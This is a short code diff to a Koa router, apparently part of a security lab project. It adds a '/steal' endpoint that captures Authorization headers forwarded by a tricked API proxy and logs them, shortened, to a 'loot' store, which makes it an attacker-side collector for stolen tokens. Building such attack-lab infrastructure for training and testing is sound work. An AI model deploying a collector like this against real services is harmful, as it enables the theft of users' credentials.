@@ -1,5 +1,6 @@
 import Router from '@koa/router';
 import { bodyParser } from '@koa/bodyparser';
+import { shortenSecret } from '@lab/shared';
 import type { LootStore } from '../loot.ts';
 
 /**
@@ -27,6 +28,15 @@ export function createCollectRoutes(loot: LootStore): Router {
       }
     }
     loot.add({ channel: 'collect', label: ctx.params.label ?? 'unknown', data: data ?? ctx.query, referer: ctx.get('Referer') || undefined });
+    ctx.status = 204;
+  });
+
+  // Where a leaky API proxy forwards to when tricked into naming this host (attack-proxy-token-leak):
+  // whatever arrives here with an Authorization header is a token handed over. Kept shortened.
+  router.all('/steal{/*rest}', (ctx) => {
+    const [scheme = '', credentials = ''] = ctx.get('Authorization').split(' ', 2);
+    const authorization = credentials ? `${scheme} ${shortenSecret(credentials)}` : undefined;
+    loot.add({ channel: 'collect', label: 'steal', data: { method: ctx.method, path: ctx.path, authorization }, referer: ctx.get('Referer') || undefined });
     ctx.status = 204;
   });
 
